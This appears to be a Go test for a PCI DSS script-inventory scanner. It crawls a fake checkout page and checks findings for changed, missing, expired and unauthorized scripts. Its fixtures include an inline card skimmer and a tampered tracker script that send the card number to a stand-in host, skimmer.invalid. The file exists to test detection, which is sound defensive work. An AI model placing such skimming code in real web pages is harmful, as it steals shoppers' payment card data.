package scan_test

// The script inventory (PCI DSS 6.4.3) through a whole crawl: a payment site whose scripts are
// authorized in every way an entry can, one changed, one missing, one expired, and two inline
// scripts nobody approved; its findings and its inventory view, and the golden JSON report.

import (
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/padlock-scan/padlock/internal/jsnorm"
	"github.com/padlock-scan/padlock/internal/sitetest"
	"github.com/padlock-scan/padlock/internal/sitetest/testnet"
	"github.com/padlock-scan/padlock/inventory"
	"github.com/padlock-scan/padlock/report"
)

const invCheckout = `<!doctype html>
<html><head><title>Checkout</title>
<script src="{{cdn}}/widget.js" integrity="{{widget_sri}}" crossorigin="anonymous"></script>
<script src="{{cdn}}/tracker.js"></script>
<script src="{{paytools}}/sdk.js"></script>
<script src="{{static}}/app.min.js"></script>
</head><body>
<form method="post" action="/pay">
<input name="cardnumber" autocomplete="cc-number">
<input name="cvc" autocomplete="cc-csc">
<button type="submit" onclick="return validateCard(this.form)">Pay</button>
</form>
<script>window.dataLayer = [];</script>
<script>new Image().src = "https://skimmer.invalid/?c=" + btoa(document.forms[0].cardnumber.value) + "&amp;x=<b>" + "</b>";</script>
</body></html>
`

const (
	invWidget     = "/* vendor widget 2.4.1 */\nwindow.VendorWidget = {init: function () {}};\n"
	invTracker    = "window.track = function () {};\n"
	invTrackerNew = "window.track = function () { new Image().src = 'https://skimmer.invalid/'; };\n"
	invSDK        = "/* paytools sdk, changes every week */\nwindow.PayTools = {mount: function () {}};\n"
	invAppPretty  = "/* shop app */\nfunction validateCard(form) {\n  // a card number is 12 to 19 digits\n  return /^[0-9]{12,19}$/.test(form.cardnumber.value);\n}\n"
	invAppMin     = "function validateCard(form){return /^[0-9]{12,19}$/.test(form.cardnumber.value);}"
	invDataLayer  = "window.dataLayer = [];"
)

// invYAML is the inventory of the shop; {{...}} are the site's origins.
const invYAML = `scripts:
  - url: "{{cdn}}/widget.js"
    sha256: [{{widget_sha}}]
    justification: vendor checkout widget, contract V-2026-7
    owner: web-platform
    approved: 2026-01-10
    expires: 2026-11-01
  - url: "{{cdn}}/tracker.js"
    sha256: [{{tracker_sha}}]
    justification: conversion tracking
    owner: marketing
    approved: 2026-03-01
  - name: paytools SDK
    origin: "{{paytools}}"
    content: any
    required: true
    justification: card fields iframe; the provider must serve it
    owner: payments
    approved: 2026-02-02
  - url-pattern: "{{static}}/app*.js"
    normalized-sha256: [{{app_norm}}]
    justification: our card validation
    owner: web-platform
    approved: 2026-05-05
  - inline-sha256: {{datalayer_sha}}
    justification: analytics data layer
    owner: marketing
    approved: 2026-04-04
  - url: "{{stripe}}/v3/"
    content: any
    required: true
    pages: ["*/checkout"]
    justification: 3-D Secure
    owner: payments
    approved: 2026-02-02
`

// inventoryGoldenReport crawls the shop with its inventory and returns the report and its
// normalised JSON.
func inventoryGoldenReport(t *testing.T) (*report.Report, []byte) {
	t.Helper()
	v := sitetest.NewVHosts()
	v.Add("www.shop.test/", sitetest.HTML(`<!doctype html><title>Shop</title><script src="/app.js"></script><a href="/checkout">Checkout</a>`))
	v.Add("www.shop.test/app.js", sitetest.JS(invTracker))
	v.Add("www.shop.test/checkout", sitetest.HTML(invCheckout))
	v.Add("cdn.vendor.test/widget.js", sitetest.JS(invWidget, "Access-Control-Allow-Origin: *"))
	v.Add("cdn.vendor.test/tracker.js", sitetest.JS(invTrackerNew))
	v.Add("js.paytools.test/sdk.js", sitetest.JS(invSDK))
	v.Add("static.shop.test/app.min.js", sitetest.JS(invAppMin))
	s := startPayShop(t, v)
	v.Vars["widget_sri"] = testnet.SRI("sha384", invWidget)
	v.Vars["widget_sha"] = sitetest.Hex(invWidget)
	v.Vars["tracker_sha"] = sitetest.Hex(invTracker)
	v.Vars["app_norm"] = jsnorm.Sum([]byte(invAppPretty))
	v.Vars["datalayer_sha"] = sitetest.Hex(invDataLayer)
	inv, err := inventory.Parse("inventory.yml", []byte(v.Expand(invYAML)))
	if err != nil {
		t.Fatal(err)
	}
	opt := payOptions(s)
	opt.Crawl.Concurrency = 1 // a repeatable order
	opt.Inventory = inv
	rep := sitetest.MustScan(t, opt)
	out := sitetest.NormalizeReport(sitetest.JSON(t, rep), s.Port, "PORT")
	return rep, payCertDateRE.ReplaceAll(out, []byte(`"$1": "(certificate date)"`))
}

func TestInventoryCrawl(t *testing.T) {
	t.Parallel()
	rep, got := inventoryGoldenReport(t)
	sitetest.Golden(t, filepath.Join("..", "testdata", "golden", "inventory.json"), got, *updateGolden)

	checkout := ""
	for _, p := range rep.Pages {
		if strings.HasSuffix(p.URL, "/checkout") {
			checkout = p.URL
		}
	}
	origin := strings.TrimSuffix(checkout, "/checkout")
	short := func(u string) string {
		u = strings.ReplaceAll(u, origin, "WWW")
		for _, h := range []string{"cdn.vendor.test", "js.paytools.test", "static.shop.test", "js.stripe.com"} {
			if i := strings.Index(u, h+":"); i >= 0 {
				j := i + len(h) + 1
				for j < len(u) && u[j] >= '0' && u[j] <= '9' {
					j++
				}
				u = u[:i] + h + u[j:]
			}
		}
		return u
	}
	var findings []string
	for _, f := range rep.Findings {
		switch f.Rule {
		case "script-unauthorized", "script-changed", "script-required-missing", "inventory-expired":
		case "sri-missing":
			if !strings.Contains(f.URL, "paytools") {
				continue
			}
		default:
			continue
		}
		findings = append(findings, fmt.Sprintf("%s %s %s %s L%d", f.Rule, f.Severity, short(f.Page), short(f.URL), f.Line))
	}
	inlineSkimmer := `new Image().src = "https://skimmer.invalid/?c=" + btoa(document.forms[0].cardnumber.value) + "&amp;x=<b>" + "</b>";`
	wantFindings := []string{
		"inventory-expired warning WWW/checkout https://cdn.vendor.test/widget.js L3",
		"script-changed error WWW/checkout https://cdn.vendor.test/tracker.js L4",
		"sri-missing info WWW/checkout https://js.paytools.test/sdk.js L5",
		"script-unauthorized error WWW/checkout inline:sha256-" + sitetest.Hex("return validateCard(this.form)") + " L11",
		"script-unauthorized error WWW/checkout inline:sha256-" + sitetest.Hex(inlineSkimmer) + " L14",
		"script-required-missing error WWW/checkout https://js.stripe.com/v3/ L0",
	}
	slices.Sort(findings)
	slices.Sort(wantFindings)
	if !slices.Equal(findings, wantFindings) {
		t.Errorf("findings:\n\tgot  %s\n\twant %s", strings.Join(findings, "\n\t     "), strings.Join(wantFindings, "\n\t     "))
	}
	for _, f := range rep.Findings {
		if f.Rule == "sri-missing" && strings.Contains(f.URL, "paytools") && !strings.Contains(f.Message, "SRI cannot apply") {
			t.Errorf("sri-missing on a content: any script does not say why SRI cannot apply: %s", f.Message)
		}
		if f.Rule == "script-unauthorized" && strings.Contains(f.URL, sitetest.Hex(inlineSkimmer)) && !strings.Contains(f.Message, "skimmer.invalid") {
			t.Errorf("an unauthorized inline script's finding does not show its start: %s", f.Message)
		}
	}

	if rep.Inventory == nil {
		t.Fatal("no inventory view in the report")
	}
	var rows []string
	for _, p := range rep.Inventory.Pages {
		for _, s := range p.Scripts {
			rows = append(rows, fmt.Sprintf("%s %s %s %s %s by=%s owner=%s approved=%s", short(p.Page), s.Status, s.Kind, short(s.URL), short(s.Entry), s.By, s.Owner, s.Approved))
		}
	}
	wantRows := []string{
		"WWW/checkout authorized external https://cdn.vendor.test/widget.js " + "https://cdn.vendor.test/widget.js by=sha256 owner=web-platform approved=2026-01-10",
		"WWW/checkout changed external https://cdn.vendor.test/tracker.js https://cdn.vendor.test/tracker.js by= owner=marketing approved=2026-03-01",
		"WWW/checkout authorized external https://js.paytools.test/sdk.js paytools SDK by=content-any owner=payments approved=2026-02-02",
		"WWW/checkout authorized external https://static.shop.test/app.min.js https://static.shop.test/app*.js by=normalized-sha256 owner=web-platform approved=2026-05-05",
		"WWW/checkout unauthorized handler   by= owner= approved=",
		"WWW/checkout authorized inline  " + sitetest.Hex(invDataLayer) + " by=inline-sha256 owner=marketing approved=2026-04-04",
		"WWW/checkout unauthorized inline   by= owner= approved=",
		"WWW/checkout missing external https://js.stripe.com/v3/ https://js.stripe.com/v3/ by= owner=payments approved=2026-02-02",
	}
	if !slices.Equal(rows, wantRows) {
		t.Errorf("inventory view:\n\tgot  %s\n\twant %s", strings.Join(rows, "\n\t     "), strings.Join(wantRows, "\n\t     "))
	}
	for _, p := range rep.Inventory.Pages {
		for _, s := range p.Scripts {
			if s.Kind == "inline" && s.Status == "unauthorized" && (s.Snippet != inlineSkimmer || s.Line != 14) {
				t.Errorf("the unauthorized inline script shows line %d and %q, want line 14 and its text", s.Line, s.Snippet)
			}
		}
	}
	if len(rep.Inventory.Pages) != 1 {
		t.Errorf("the inventory view lists %d pages, want the checkout page only", len(rep.Inventory.Pages))
	}
}
